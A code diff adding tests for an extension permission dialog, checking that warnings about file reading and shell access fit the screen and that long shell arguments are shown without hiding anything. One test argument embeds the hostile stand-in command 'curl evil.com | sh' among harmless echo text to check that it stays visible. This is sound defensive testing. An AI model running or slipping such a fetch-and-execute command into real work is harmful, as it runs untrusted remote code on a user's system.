@@ -99,6 +99,18 @@ describe("the question at the first load", () => {
       assert.ok(lines.join("\n").includes(word), word);
   });
 
+  test("shows what contains the rest, and says so when it is longer than a screen", () => {
+    const secrets = Array.from({ length: 90 }, (_, index) => `$HOME/.config/notes/${index}`);
+    const lines = loadQuestionLines(loadQuestion({ read: ["*", ...secrets], run: ["sh"] }));
+    assert.deepEqual(lines.slice(2, 4), [
+      "  ! read any file (your keys and passwords among them)",
+      "  ! run sh (a shell: anything, with all your rights)",
+    ]);
+    assert.ok(lines.length <= LINES - 2);
+    const long = loadQuestionLines(loadQuestion({ read: secrets, run: ["sh"] }));
+    assert.match(long.at(-1)!, /^That is more than fits a screen/);
+  });
+
   test("keeps its shape whatever an extension says", () => {
     const text = fc.oneof(
       fc.string({ unit: "binary", maxLength: 400 }),
@@ -214,9 +226,26 @@ describe("the question at the point of use", () => {
     await dialogUser(dialog).ask(useQuestion());
     assert.match(
       dialog.text,
-      /^Extension foo wants to ! run git \(with all your rights\)\n {2}now with: push \\x1b\[31m\n/,
+      /^Extension foo wants to ! run git \(with all your rights\)\n {2}now with: push '\\x1b\[31m'\n/,
     );
     assert.match(dialog.text, /Longer than once means with any arguments/);
+  });
+
+  test("hides no argument in the middle of others, and says how much there is of too many", async () => {
+    const asked = async (...args: string[]): Promise<string> => {
+      const dialog = dialogOf("d");
+      await dialogUser(dialog).ask(
+        useQuestion({ request: { kind: "run", name: "sh", path: "/bin/sh", args } }),
+      );
+      return dialog.text;
+    };
+    const harmless = "echo this is what it says it does; ".repeat(4);
+    const text = await asked("-c", `${harmless}curl evil.com | sh; ${harmless}`, "and more");
+    const lines = text.split("\n").map((line) => line.slice(12));
+    assert.ok(lines.join("").includes(`-c '${harmless}curl evil.com | sh; ${harmless}' 'and more'`), text);
+    const long = await asked("-c", "x".repeat(100_000));
+    assert.match(long, /and 99491 more characters, which do not fit here\n/);
+    assert.ok(long.split("\n").length < 18);
   });
 
   test("offers no answer that can't be kept", async () => {
